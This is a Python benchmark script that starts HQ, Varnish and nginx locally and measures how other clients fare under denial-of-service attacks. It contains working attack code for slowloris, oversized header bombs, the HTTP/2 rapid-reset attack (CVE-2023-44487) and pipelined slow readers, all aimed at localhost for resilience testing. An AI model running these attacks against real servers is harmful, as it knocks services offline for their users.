#!/usr/bin/env python3
"""Attacks on the edge, beside Varnish and nginx: what other clients feel, what it costs, what the attacker gets.

The attacker comes from one network, 127.66.0.0/24, the other clients from another; both share this machine with the
server, so that an attack also takes processor time from those who suffer it. Each server is started anew for each
attack. HQ and nginx are given limits for one network of the same size; Varnish has none without a module.

usage: attacks.py ATTACK PORT SECONDS     runs one attack alone, as the benchmark does in a process of its own
"""
import json
import os
import resource
import select
import socket
import subprocess
import sys
import time

import peers
from machine import Neighbours, cpu_seconds, processes, tree
from origin import Origin, serves
from processes import Stage, end, ended, until
from tables import show, warn

NETWORK = "127.66.0.%d"
RATE = 500
"""Requests a second of the other clients: few, so that the attack is what they feel."""
CONNECTIONS_OF_NETWORK = 500
REQUESTS_OF_NETWORK = 1000
SLOWLORIS = 5000
SLOW_READERS = 200
PIPELINED = 10_000
FLOOD = 50_000
HEAD = b"GET /kibibyte.txt HTTP/1.1\r\nHost: 127.0.0.1\r\n"


# --- the attacks, each in a process of its own -------------------------------------------------------------------

def connected(port, number):
    """A connection from the attacker's network, or None when it was refused."""
    line = socket.socket()
    line.settimeout(2)
    try:
        line.bind((NETWORK % (1 + number % 250), 0))
        line.connect(("127.0.0.1", port))
    except OSError:
        line.close()
        return None
    return line


def is_open(line):
    line.setblocking(False)
    try:
        return line.recv(65536, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def slowloris(port, seconds):
    """Heads that never end: a header line now and then keeps each connection busy."""
    lines, made = [], 0
    deadline = time.monotonic() + seconds
    most = 0
    while time.monotonic() < deadline:
        while len(lines) < SLOWLORIS and time.monotonic() < deadline:
            line = connected(port, made)
            made += 1
            if line is None:
                break
            try:
                line.sendall(HEAD)
                lines.append(line)
            except OSError:
                line.close()
            if made % 500 == 0:
                lines = kept(lines)
                most = max(most, len(lines))
        for line in lines:
            try:
                line.send(b"X-a: b\r\n")
            except OSError:
                pass
        lines = kept(lines)
        most = max(most, len(lines))
        time.sleep(0.5)
    return {"got": f"{most:,} of {SLOWLORIS:,} connections held, {made:,} made"}


def kept(lines):
    stay = []
    for line in lines:
        if is_open(line):
            stay.append(line)
        else:
            line.close()
    return stay


def header_bombs(port, seconds):
    """Heads of 256 KiB in two hundred fields, as fast as they are taken."""
    bomb = HEAD + b"".join(b"X-%d: %s\r\n" % (number, b"b" * 1300) for number in range(200)) + b"\r\n"
    counts = {}
    deadline = time.monotonic() + seconds
    number = 0
    while time.monotonic() < deadline:
        number += 1
        line = connected(port, number)
        answer = "refused"
        if line:
            try:
                line.sendall(bomb)
            except OSError:
                pass
            try:
                answer = line.recv(4096)[9:12].decode() or "closed"
            except OSError:
                answer = "reset"
            line.close()
        counts[answer] = counts.get(answer, 0) + 1
    return {"got": ", ".join(f"{count:,} {name}" for name, count in sorted(counts.items()))}


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


REQUEST = bytes([0x82, 0x86, 0x84, 0x41, 9]) + b"127.0.0.1"
"""GET / of http in HPACK (RFC 7541): three static fields, and the authority as a literal."""


def rapid_reset(port, seconds):
    """Streams that are taken back at once (CVE-2023-44487), on connections made anew when one is closed."""
    streams = lines = refused = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        line = connected(port, lines)
        lines += 1
        if line is None:
            refused += 1
            time.sleep(0.01)
            continue
        stream = 1
        try:
            line.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            while time.monotonic() < deadline:
                batch = b""
                for _ in range(100):
                    batch += frame(1, 5, stream, REQUEST) + frame(3, 0, stream, (8).to_bytes(4, "big"))
                    stream += 2
                line.sendall(batch)
                streams += 100
                readable, _, _ = select.select([line], [], [], 0)
                if readable and not line.recv(65536):
                    break
        except OSError:
            pass
        line.close()
    return {"got": f"{streams:,} streams on {lines:,} connections"}


def slow_readers(port, seconds):
    """Thousands of requests on each connection, and no answer read: who keeps the answers?"""
    lines, sent = [], 0
    requests = (HEAD + b"\r\n") * PIPELINED
    for number in range(SLOW_READERS):
        line = connected(port, number)
        if line is None:
            continue
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        line.setblocking(False)
        lines.append([line, 0])
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for entry in lines:
            try:
                count = entry[0].send(requests[entry[1]:entry[1] + 65536])
                entry[1] += count
                sent += count
            except OSError:
                pass
        time.sleep(0.02)
    held = sum(is_open(entry[0]) for entry in lines)
    return {"got": f"{held} of {SLOW_READERS} connections held, {sent // len(HEAD + b'..'):,} requests taken in"}


ATTACKS = {"slowloris": slowloris, "header bombs": header_bombs, "rapid reset": rapid_reset,
           "slow readers": slow_readers}


# --- the servers ---------------------------------------------------------------------------------------------------

def hq(program, stage, origin, ports):
    return peers.hq(program, stage, origin, ports, "--network-connections", str(CONNECTIONS_OF_NETWORK),
                    "--network-rate", str(REQUESTS_OF_NETWORK))


def varnish(program, stage, origin, ports):
    return peers.varnish(program, stage, origin, ports, "-p", "feature=+http2")


def nginx(program, stage, origin, ports):
    """With a map that makes a /24 of each address, as its manual suggests for networks."""
    return peers.nginx(program, stage, origin, ports, outside=f"""
  map $remote_addr $network {{ ~^(?<n>\\d+\\.\\d+\\.\\d+)\\. $n; default $remote_addr; }}
  limit_conn_zone $network zone=connections:10m;
  limit_req_zone $network zone=requests:10m rate={REQUESTS_OF_NETWORK}r/s;
  client_header_timeout 10s;
  send_timeout 10s;
""", inside=f"""
    limit_conn connections {CONNECTIONS_OF_NETWORK};
    limit_req zone=requests burst={REQUESTS_OF_NETWORK * 2} nodelay;
    limit_req_status 429;
""")


SERVERS = {"HQ": hq, "Varnish": varnish, "nginx": nginx}


def resident(root):
    """MiB of a server and all its processes."""
    total = 0
    for pid in tree(processes(), root):
        try:
            with open(f"/proc/{pid}/statm") as file:
                total += int(file.read().split()[1])
        except (FileNotFoundError, ProcessLookupError):
            continue
    return total * os.sysconf("SC_PAGESIZE") / 2**20


# --- one attack on one server --------------------------------------------------------------------------------------

def attack_argv(program, name, port, seconds):
    if name == "flood":
        return [program, "rehearse", "flood", "--rate", str(FLOOD), "--target", f"http://127.0.0.1:{port}",
                "--paths", "kibibyte", "--for", f"{seconds}s", "--connections", "256", "--loops", "1",
                "--from", NETWORK % 1, "--json"]
    return [sys.executable, os.path.abspath(__file__), name, str(port), str(seconds)]


def flood_got(report):
    rate = report["statuses"][1] / max(1, len(report["seconds"]))
    return (f"{rate:,.0f} good answers/s of {report['due'] / max(1, len(report['seconds'])):,.0f} wanted, "
            f"{report['statuses'][3]:,} times 4xx")


def measured(program, stage, server, attack, origin, seconds):
    """The row of one server under one attack; `attack` None is the row without one."""
    ports = peers.Ports(stage)
    process = SERVERS[server](program, stage, origin, ports)
    calm = ports.plain
    port = ports.h2c if attack == "rapid reset" and server == "nginx" else calm
    until(lambda: serves(calm) or ended(process), f"the first answer of {server}")
    if ended(process):
        raise RuntimeError(f"{server} ended:\n{stage.log(server)}")
    before = resident(process.pid)
    attacker = None
    if attack:
        attacker = subprocess.Popen(attack_argv(program, attack, port, seconds + 2), stdout=subprocess.PIPE,
                                    stderr=subprocess.DEVNULL, text=True, cwd=stage.folder)
        time.sleep(1)
    began, used = time.perf_counter(), cpu_seconds(process.pid)
    load = subprocess.Popen(
        [program, "rehearse", "steady", "--rate", str(RATE), "--target", f"http://127.0.0.1:{calm}", "--paths",
         stage.path("kibibyte"), "--for", f"{seconds}s", "--connections", "64", "--json"],
        stdout=subprocess.PIPE, text=True)
    most = before
    while load.poll() is None:
        most = max(most, resident(process.pid))
        time.sleep(0.1)
    cores = (cpu_seconds(process.pid) - used) / (time.perf_counter() - began)
    report = json.loads(load.communicate()[0])
    got = "-"
    if attacker:
        out = json.loads(attacker.communicate()[0])
        got = flood_got(out) if attack == "flood" else out["got"]
    end(process)
    stage.processes.remove(process)
    latency = report["latency"]["all"]
    bad = report["statuses"][4] + report["statuses"][3] + sum(report["errors"].values())
    return [attack or "none", server, f"{latency['p50'] / 1000:.2f}", f"{latency['p99'] / 1000:.2f}", f"{bad:,}",
            f"{before:.0f}", f"{most:.0f}", f"{cores:.2f}", got]


def run(program, sizes):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    neighbours = Neighbours(time.perf_counter)
    rows = []
    with Stage("attacks") as stage:
        origin_port = stage.free_port()
        origin = Origin(origin_port)
        with open(stage.path("kibibyte"), "w") as file:
            file.write("/kibibyte.txt\n")
        for attack in [None, *ATTACKS, "flood"]:
            for server in SERVERS:
                with neighbours:
                    rows.append(measured(program, stage, server, attack, origin_port, sizes.attack_seconds))
        origin.shutdown()
    print(f"attacks from one network for {sizes.attack_seconds} s each, while others ask {RATE}/s (open loop); limits of "
          f"HQ and nginx: {CONNECTIONS_OF_NETWORK} connections, {REQUESTS_OF_NETWORK:,} requests/s for a network")
    show(["attack", "server", "others p50 ms", "p99 ms", "their errors", "MiB before", "MiB at most", "cores",
          "the attacker got"], rows)
    warn(neighbours)


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    print(json.dumps(ATTACKS[sys.argv[1]](int(sys.argv[2]), float(sys.argv[3]))))
